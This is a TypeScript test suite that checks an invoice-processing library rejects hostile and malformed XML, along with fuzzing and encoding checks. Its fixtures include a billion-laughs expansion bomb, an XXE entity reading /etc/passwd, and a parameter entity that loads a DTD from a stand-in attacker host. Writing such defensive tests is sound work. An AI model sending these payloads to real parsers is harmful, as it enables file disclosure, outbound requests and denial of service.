import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inMemoryInvoiceContext, processInvoiceFile } from '../../../lib/invoices/index.ts';
import { corpusSample } from '../../support/corpus.ts';
import { fuzzParameters } from '../../support/fuzz.ts';
import { withCorpus } from '../../support/needs-shared.ts';
import { utf8 } from './helpers.ts';

const run = (bytes: Uint8Array, filename = 'hostile.xml', settings = { allowNewRelations: true }) =>
  processInvoiceFile(
    { bytes, filename, direction: 'purchase', administration: 'DEMO', tenant: 'acme' },
    inMemoryInvoiceContext({ settings }),
  );

const base = corpusSample('ubl', 'si-ubl-2.0__SI-UBL-2.0.3.2__SI-UBL-2.0_ok_base.xml');

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&lol3;</ID></Invoice>`;
const externalEntity = `<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&xxe;</ID></Invoice>`;
const parameterEntity = `<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Invoice/>`;
const deep = `<Invoice>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</Invoice>`;

async function expectRejected(bytes: Uint8Array, rule: string): Promise<void> {
  // Act
  const result = await run(bytes);
  // Assess
  expect(result.status).toBe('rejected');
  expect(result.events).toEqual([]);
  expect(result.findings[0]?.rule.startsWith(rule)).toBe(true);
  expect(result.findings[0]?.message.length).toBeGreaterThan(10);
}

describe('hostile and broken input', () => {
  it.each([
    ['billion laughs', utf8(billionLaughs), 'XML-DOCTYPE'],
    ['external entity (XXE)', utf8(externalEntity), 'XML-DOCTYPE'],
    ['parameter entity', utf8(parameterEntity), 'XML-DOCTYPE'],
    ['binary junk', new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)), 'XML-'],
    ['an empty file', new Uint8Array(0), 'XML-EMPTY'],
    [
      'invalid UTF-8',
      new Uint8Array([
        ...utf8('<?xml version="1.0" encoding="UTF-8"?><Invoice><ID>'),
        0xff,
        0xfe,
        0xc3,
        ...utf8('</ID></Invoice>'),
      ]),
      'XML-ENCODING',
    ],
    [
      'an unsupported encoding',
      utf8('<?xml version="1.0" encoding="EBCDIC-CP-US"?><Invoice/>'),
      'XML-ENCODING',
    ],
    ['nesting 5000 deep', utf8(deep), 'XML-DEPTH'],
    ['another XML document', utf8('<Order xmlns="urn:x"><ID>1</ID></Order>'), 'DOC-UNSUPPORTED'],
    ['plain text', utf8('this is not an invoice at all'), 'XML-NOT-XML'],
  ])('rejects %s with a clear error', async (_name, bytes, rule) => {
    await expectRejected(bytes, rule);
  });

  // Built from the corpus base invoice when they run.
  it.each<[string, () => Uint8Array, string]>([
    [
      'a DOCTYPE after a comment',
      () =>
        utf8(`<!-- hi --><!DOCTYPE Invoice SYSTEM "x.dtd">${base.text.slice(base.text.indexOf('<Invoice'))}`),
      'XML-DOCTYPE',
    ],
    ['truncated file', () => base.bytes.subarray(0, Math.floor(base.bytes.byteLength / 2)), 'XML-MALFORMED'],
  ])('rejects %s with a clear error', withCorpus(), async (_name, bytes, rule) => {
    await expectRejected(bytes(), rule);
  });

  it('refuses a 50 MB file by its size before parsing', async () => {
    // Prepare
    const huge = new Uint8Array(50 * 1024 * 1024).fill(0x20);
    huge.set(utf8('<Invoice>'), 0);
    // Act
    const result = await run(huge);
    // Assess
    expect(result.status).toBe('rejected');
    expect(result.findings.map((f) => f.rule)).toEqual(['XML-SIZE']);
  });

  it.each([
    ['UTF-16 LE with BOM', 'utf-16le', [0xff, 0xfe]],
    ['UTF-16 BE with BOM', 'utf-16be', [0xfe, 0xff]],
  ])('reads %s', withCorpus(), async (_name, encoding, bom) => {
    // Prepare
    const text = base.text.replace('encoding="utf-8"', 'encoding="UTF-16"');
    const units = Buffer.from(text, 'utf16le');
    if (encoding === 'utf-16be') units.swap16();
    // Act
    const result = await run(new Uint8Array([...bom, ...units]));
    // Assess
    expect(result.status).toBe('ok');
    expect(result.invoiceNumber).toBe('12115118');
  });

  it('reads ISO-8859-1 with accented names', withCorpus(), async () => {
    // Prepare
    const text = base.text
      .replace('encoding="utf-8"', 'encoding="ISO-8859-1"')
      .replace('SimplerInvoicing</cbc:RegistrationName>', 'Café Ré BV</cbc:RegistrationName>');
    // Act
    const result = await run(new Uint8Array(Buffer.from(text, 'latin1')));
    // Assess
    expect(result.status).toBe('ok');
    expect(result.party?.name).toBe('Café Ré BV');
  });

  it('keeps the five predefined entities and character references', withCorpus(), async () => {
    // Prepare
    const text = base.text.replace(
      'SimplerInvoicing</cbc:RegistrationName>',
      'A &amp; B &#169; &lt;x&gt;</cbc:RegistrationName>',
    );
    // Act
    const result = await run(utf8(text));
    // Assess
    expect(result.party?.name).toBe('A & B © <x>');
  });

  it('never throws and never books on random bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 2048 }), async (bytes) => {
        const result = await run(bytes);
        expect(['rejected', 'review']).toContain(result.status);
        expect(result.events).toEqual([]);
      }),
      fuzzParameters(200),
    );
  });

  it('never throws on mutated invoices (fuzzed characters)', withCorpus(), async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 0, max: base.bytes.byteLength - 1 }),
        fc.integer({ min: 0, max: 255 }),
        async (at, value) => {
          // Prepare
          const mutated = new Uint8Array(base.bytes);
          mutated[at] = value;
          // Act
          const result = await run(mutated);
          // Assess: whatever happens, it is a result; a booked one is balanced.
          expect(['ok', 'review', 'rejected']).toContain(result.status);
          const entry = result.events.find((e) => e.type === 'journal-entry.book');
          if (entry?.type === 'journal-entry.book')
            expect(entry.data.lines.reduce((s, l) => s + l.amountCents, 0)).toBe(0);
        },
      ),
      fuzzParameters(150),
    );
  });
});
